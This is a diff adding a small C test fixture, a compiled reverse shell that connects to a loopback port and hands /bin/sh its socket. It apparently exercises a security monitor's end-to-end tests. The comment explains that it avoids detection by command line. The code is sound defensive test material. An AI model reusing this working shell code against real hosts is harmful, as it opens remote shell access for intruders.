@@ -1,0 +1,25 @@
+/* SPDX-License-Identifier: MIT */
+/* monitor-implant.c: a compiled reverse shell for the monitor's end-to-end tests. Its command line
+ * says nothing (no nc -e, no /dev/tcp): only the shell's standard input being a TCP socket gives
+ * it away. Built static, pushed into a test container, pointed at 127.0.0.1 inside it. */
+#include <arpa/inet.h>
+#include <stdlib.h>
+#include <sys/socket.h>
+#include <unistd.h>
+
+int main(int argc, char **argv)
+{
+	struct sockaddr_in sa = {.sin_family = AF_INET};
+	int fd = socket(AF_INET, SOCK_STREAM, 0);
+
+	if (argc < 2 || fd < 0)
+		return 2;
+	sa.sin_port = htons((unsigned short)atoi(argv[1]));
+	sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+	if (connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0)
+		return 1;
+	dup2(fd, 0);
+	dup2(fd, 1);
+	execl("/bin/sh", "sh", (char *)NULL);
+	return 1;
+}
